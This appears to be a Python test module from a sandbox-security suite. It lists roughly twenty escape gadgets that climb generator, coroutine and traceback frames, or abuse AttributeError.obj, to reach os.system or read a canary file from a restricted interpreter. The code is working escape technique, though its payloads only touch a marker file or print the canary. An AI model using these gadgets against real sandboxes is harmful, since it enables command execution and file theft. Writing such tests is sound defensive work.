"""Frames of generators, coroutines and tracebacks, and the objects that exceptions carry."""

from sandbox.attack import BUILTIN, FILE, gadget

CLIMB = r"""
def climb(frame):
    while frame is not None:
        for space in (frame.f_globals, frame.f_builtins):
            for name in ("os", "posix"):
                if name in space:
                    return space[name].system("touch " + MARKER)
            if "__import__" in space:
                try:
                    return space["__import__"]("os").system("touch " + MARKER)
                except ImportError:
                    pass
        frame = frame.f_back
"""

FRAMES = (
    gadget(
        "generator-frame-back",
        "gi_frame",
        CLIMB
        + r"""
def step():
    yield g.gi_frame.f_back
g = step()
for frame in g:
    climb(frame)
""",
    ),
    gadget(
        "generator-expression-frame",
        "gi_frame",
        CLIMB
        + r"""
g = (g.gi_frame.f_back.f_back for _ in [1])
climb([frame for frame in g][0])
""",
    ),
    gadget(
        "generator-frame-builtins",
        "gi_frame",
        r"""
space = (x for x in ()).gi_frame.f_builtins
if "open" not in space:
    space = len.__self__.__dict__
print("LEAK:", space["open"](CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "coroutine-frame",
        "gi_frame",
        CLIMB
        + r"""
async def a():
    return c.cr_frame.f_back
c = a()
try:
    c.send(None)
except StopIteration as stop:
    climb(stop.value)
""",
    ),
    gadget(
        "async-generator-frame",
        "gi_frame",
        CLIMB
        + r"""
async def a():
    yield g.ag_frame.f_back
g = a()
try:
    g.asend(None).send(None)
except StopIteration as stop:
    climb(stop.value)
""",
    ),
    gadget(
        "traceback-frame",
        "tb_frame",
        CLIMB
        + r"""
try:
    1 / 0
except ZeroDivisionError as error:
    climb(error.__traceback__.tb_frame)
""",
    ),
    gadget(
        "traceback-of-a-library-frame",
        "tb_frame",
        r"""
import json
try:
    json.loads("{")
except ValueError as error:
    tb = error.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    tb.tb_frame.f_globals["__builtins__"]["__import__"]("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "traceback-of-except-star",
        "tb_frame",
        CLIMB
        + r"""
try:
    raise ExceptionGroup("x", [ValueError("y")])
except* ValueError as group:
    climb(group.__traceback__.tb_frame)
""",
    ),
    gadget(
        "except-star-with-a-class-that-lies",
        "tb_frame",
        CLIMB
        + r"""
class Meta(type):
    def __instancecheck__(cls, other):
        return True
    def __subclasscheck__(cls, other):
        return True
class Lies(Exception, metaclass=Meta):
    def split(self, kind):
        return (self, None)
try:
    raise Lies("x")
except* ValueError as group:
    climb(group.__traceback__.tb_frame)
except* Lies as group:
    climb(group.exceptions[0].__traceback__.tb_frame)
""",
    ),
    gadget(
        "exit-gets-the-traceback",
        "tb_frame",
        CLIMB
        + r"""
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, value, tb):
        climb(tb.tb_frame)
        return True
with Catch():
    1 / 0
""",
    ),
    gadget(
        "frame-locals-of-the-caller",
        "f_back",
        CLIMB
        + r"""
def here():
    try:
        raise KeyError
    except KeyError as error:
        return error.__traceback__.tb_frame
frame = here().f_back
while frame.f_back is not None:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, list):
            value.clear()
    frame = frame.f_back
climb(here())
""",
    ),
    gadget(
        "getframe",
        "f_back",
        CLIMB
        + r"""
import sys
climb(sys._getframe(0))
""",
        policy="extended",
    ),
    gadget(
        "settrace-frames",
        "f_back",
        CLIMB
        + r"""
import sys
sys.setprofile(lambda frame, event, arg: climb(frame))
len("x")
sys.setprofile(None)
""",
        policy="extended",
    ),
    gadget(
        "exc-info",
        "tb_frame",
        CLIMB
        + r"""
import sys
try:
    1 / 0
except ZeroDivisionError:
    climb(sys.exc_info()[2].tb_frame)
""",
        policy="extended",
    ),
    gadget(
        "attribute-error-obj",
        "AttributeError.obj",
        r"""
def get(thing, name):
    try:
        ("{0." + name + ".nothing}").format(thing)
    except AttributeError as error:
        return error.obj
for kind in get((), "__class__.__base__.__subclasses__")():
    if "_wrap_close" in str(kind):
        get(kind, "__init__.__globals__")["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "attribute-error-obj-by-format-map",
        "AttributeError.obj",
        r"""
def get(thing, name):
    try:
        ("{x." + name + ".nothing}").format_map({"x": thing})
    except AttributeError as error:
        return error.obj
print("LEAK:", get(len, "__self__").open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "attribute-error-obj-by-match",
        "AttributeError.obj",
        r"""
def get(thing, name):
    try:
        ("{0." + name + ".nothing}").format(thing)
    except AttributeError as error:
        match error:
            case AttributeError(obj=found):
                return found
get(print, "__self__.__import__")("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "attribute-error-of-own-getattr",
        "AttributeError.obj",
        r"""
import random
class Own:
    def __getattr__(self, name):
        raise AttributeError(name=name, obj=random)
try:
    Own().x
except AttributeError as error:
    error.obj._os.system("touch " + MARKER)
""",
        sees=(BUILTIN, FILE),
    ),
    gadget(
        "str-of-an-exception-runs-late",
        "tb_frame",
        CLIMB
        + r"""
class Late(Exception):
    def __str__(self):
        climb((x for x in ()).gi_frame)
        try:
            1 / 0
        except ZeroDivisionError as error:
            climb(error.__traceback__.tb_frame)
        return "late"
raise Late
""",
    ),
    gadget(
        "finaliser",
        "f_back",
        CLIMB
        + r"""
class Bomb:
    def __del__(self):
        climb((x for x in ()).gi_frame)
        len.__self__.__import__("posix").system("touch " + MARKER)
bomb = Bomb()
del bomb
""",
    ),
)
